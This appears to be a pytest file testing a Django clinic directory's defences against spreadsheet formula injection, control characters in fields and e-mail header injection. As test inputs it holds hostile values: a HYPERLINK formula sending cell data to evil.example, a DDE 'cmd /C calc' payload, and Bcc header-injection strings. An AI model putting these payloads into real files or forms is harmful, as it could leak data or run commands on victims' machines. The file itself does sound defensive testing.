"""Issue 16, F-08 and F-09: names that a spreadsheet would run as formulas, control
characters in one-line fields, and every CSV we write safe to open in a spreadsheet."""

import csv
import io
from pathlib import Path

import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.urls import reverse

from directory.models import Center, Inquiry, Location, MedicareBilling
from directory.spreadsheet_safety import SafeDictWriter, SafeWriter, spreadsheet_cell
from tests.directory.import_helpers import facility_row, run_import, write_directory
from tests.directory.medicare_helpers import claim_row, organization_row, run_medicare, write_claims
from tests.directory.outreach_helpers import (
    WORKING_MAILERS,
    admin_form_data,
    inquiry_data,
    make_staff,
)
from tests.factories import make_center

pytestmark = pytest.mark.django_db

FORMULA_NAMES = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rCR"]


# Every CSV we write: formula-like cells get a leading single quote (OWASP's advice).


@pytest.mark.parametrize("value", ["=1+2", "+1 904 555 0100", "-cmd|' /C calc'!A0", "@SUM(1)", "\tx", "\rx", "\nx"])
def test_a_formula_like_cell_is_prefixed_with_a_single_quote(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Harbor Clinic", "", "-81.6557", "+30.2", "1e5", -81.6557, 42, None, "a=b", "'quoted"]
)
def test_other_cells_and_plain_numbers_are_left_alone(value):
    assert spreadsheet_cell(value) == value


def test_the_writers_neutralize_every_cell_and_keep_csv_quoting():
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+2", 'a,"b"', -81.5, "ok"])
    dict_out = io.StringIO()
    writer = SafeDictWriter(dict_out, fieldnames=["name", "longitude"])
    writer.writeheader()
    writer.writerows([{"name": "@cmd", "longitude": "-81.5"}])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+2", 'a,"b"', "-81.5", "ok"]]
    assert list(csv.reader(io.StringIO(dict_out.getvalue()))) == [["name", "longitude"], ["'@cmd", "-81.5"]]


def test_the_open_data_csvs_carry_no_formula(tmp_path):
    # A name saved before the rule (bulk writes skip validation), and a street that begins with a dash.
    center = make_center(name="Plain Clinic")
    Center.objects.filter(pk=center.pk).update(name='=HYPERLINK("https://evil.example/","x")')
    Location.objects.filter(center=center).update(street1="- - -")
    call_command("export_hsds", str(tmp_path), stdout=io.StringIO())
    rows = {path.name: list(csv.DictReader(path.open(encoding="utf-8"))) for path in Path(tmp_path).glob("*.csv")}
    assert rows["organizations.csv"][0]["name"] == '\'=HYPERLINK("https://evil.example/","x")'
    assert rows["addresses.csv"][0]["address_1"] == "'- - -"
    assert float(rows["locations.csv"][0]["longitude"]) == pytest.approx(-81.6321)  # numbers stay numbers
    for name, table in rows.items():
        for row in table:
            for column, value in row.items():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, column, value)


# The importers: names a spreadsheet would run, and control characters, are rejected rows with a reason.


def test_the_directory_import_rejects_formula_names_and_control_characters(tmp_path):
    rows = [facility_row(name1=name) for name in ['=HYPERLINK("https://evil.example/","x")', "+Plus", "@At"]]
    rows += [facility_row(name1="Escape\x1b[2J Clinic"), facility_row(name1="Nul\x00Clinic")]
    # Whitespace of any kind is collapsed as before; a dash street is data: neutralized in CSVs, not refused.
    rows += [facility_row(name1="Kept\x0b Clinic", street1="- - -")]
    output = run_import(write_directory(tmp_path / "d.csv", rows), report_dir=tmp_path / "report")
    assert "created 1, updated 0, unchanged 0, merged 0, rejected 5" in output
    assert list(Center.objects.values_list("name", flat=True)) == ["Kept Clinic"]
    rejects = list(csv.DictReader((tmp_path / "report" / "rejects.csv").open(encoding="utf-8")))
    reasons = [reject["reason"] for reject in rejects]
    assert reasons[0].startswith("the name is refused: it begins with '='")
    assert "which a spreadsheet would read as a formula" in reasons[1]
    assert reasons[3] == "name1 is refused: it holds the control character U+001B"
    assert reasons[4] == "name1 is refused: it holds the control character U+0000"
    # The report itself is safe to open: the refused names are there, neutralized.
    assert [reject["name1"] for reject in rejects[:3]] == [
        '\'=HYPERLINK("https://evil.example/","x")',
        "'+Plus",
        "'@At",
    ]


def test_the_medicare_import_rejects_formula_names(tmp_path):
    rows = [organization_row('=HYPERLINK("https://evil.example/","x")'), claim_row(Rndrng_Prvdr_First_Name="@Iris")]
    rows += [claim_row(Rndrng_Prvdr_Last_Org_Name="Marlowe\tSmith"), claim_row()]
    output = run_medicare(write_claims(tmp_path / "claims.csv", rows), "--year", "2023", report_dir=tmp_path / "report")
    assert "rejected 3" in output
    assert "Rndrng_Prvdr_Last_Org_Name is refused: it begins with '='" in output
    assert "Rndrng_Prvdr_First_Name is refused: it begins with '@'" in output
    assert "Rndrng_Prvdr_Last_Org_Name is refused: it holds a tab" in output
    assert not MedicareBilling.objects.filter(name__startswith="=").exists()
    rejects = (tmp_path / "report" / "rejects.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in rejects and "\n=HYPERLINK" not in rejects and ",=HYPERLINK" not in rejects


# The admin and the model: such names cannot be saved by staff either.


@pytest.mark.parametrize("name", [*FORMULA_NAMES, "Harbor\nClinic", "Harbor\x00Clinic", "Harbor\x85Clinic"])
def test_a_center_name_that_is_a_formula_or_has_a_control_character_is_refused(name):
    center = make_center(name="Harbor Clinic")
    center.name = name
    with pytest.raises(ValidationError) as refused:
        center.full_clean()
    assert "name" in refused.value.message_dict


@pytest.mark.parametrize("field", ["street1", "street2", "city", "hours", "label", "phone"])
def test_one_line_location_fields_refuse_control_characters(field):
    location = make_center().locations.get()
    setattr(location, field, "Main\r\nStreet")
    with pytest.raises(ValidationError) as refused:
        location.full_clean()
    assert field in refused.value.message_dict
    setattr(location, field, "- - -" if field == "street1" else "Main Street")
    location.full_clean()  # a dash at the start of a street is fine: only names are refused for it


def test_staff_cannot_save_a_formula_name_in_the_admin(client, django_user_model):
    center = make_center(name="Harbor Clinic")
    client.force_login(make_staff(django_user_model, "lena", "Listing editors"))
    url = reverse("admin:directory_center_change", args=[center.pk])
    data = admin_form_data(client.get(url))
    for name, error in [
        ('=HYPERLINK("https://evil.example/","x")', "spreadsheets would read it as a formula"),
        ("Harbor\nClinic", "without line breaks"),
    ]:
        response = client.post(url, {**data, "name": name})
        assert response.status_code == 200 and error in response.content.decode()
    center.refresh_from_db()
    assert center.name == "Harbor Clinic"
    data["name"] = "Harbor Clinic - Riverside"  # a dash inside a name is fine
    assert client.post(url, data).status_code == 302


def test_the_list_your_center_form_refuses_a_formula_name(client):
    from directory.listings.forms import ListCenterForm

    form = ListCenterForm({"center_name": "=1+2", "location_1_city": "Jackson\tville"})
    form.is_valid()
    assert "spreadsheets would read it as a formula" in str(form.errors["center_name"])
    assert "without line breaks" in str(form.errors["location_1_city"])


def test_an_inquiry_name_with_a_line_break_is_refused(client, center, settings):
    settings.FORM_MIN_SECONDS = 0
    url = reverse("directory:center_ask", args=[center.slug])
    response = client.post(url, inquiry_data(client.get(url).content.decode(), name="Quillonia\r\nBcc: x@example.org"))
    assert response.status_code == 200 and "without line breaks" in response.content.decode()
    assert not Inquiry.objects.exists()


# F-09: a notification for a center whose name has a line break is still sent, on one line.


def test_a_notification_for_a_center_whose_name_has_a_line_break_is_sent(client, settings):
    settings.MAILERS = WORKING_MAILERS
    settings.FORM_MIN_SECONDS = 0
    settings.INTAKE_EMAIL = "intake@example.org"
    center = make_center(name="Harbor Clinic")
    Center.objects.filter(pk=center.pk).update(
        name="Harbor\nClinic\r\nBcc: someone@example.org"
    )  # saved before the rule
    url = reverse("directory:center_ask", args=[center.slug])
    response = client.post(url, inquiry_data(client.get(url).content.decode()))
    assert response.status_code == 302
    inquiry = Inquiry.objects.get()
    assert inquiry.notified_at is not None and inquiry.notification_error == ""
    [email] = mail.outbox
    assert email.subject == f"New inquiry #{inquiry.pk} for Harbor Clinic Bcc: someone@example.org"
    assert email.bcc == [] and email.to == ["intake@example.org"]


def test_a_listing_e_mail_for_a_name_with_a_line_break_is_sent_on_one_line(settings):
    from directory.listings.services import listing_mail_send

    settings.MAILERS = WORKING_MAILERS
    sent = listing_mail_send(
        to="rep@example.org",
        subject="Is Harbor\nClinic accepting new patients?",
        template="emails/listings/checkup.txt",
        context={"center": None, "links": {}},
    )
    assert sent and mail.outbox[0].subject == "Is Harbor Clinic accepting new patients?"
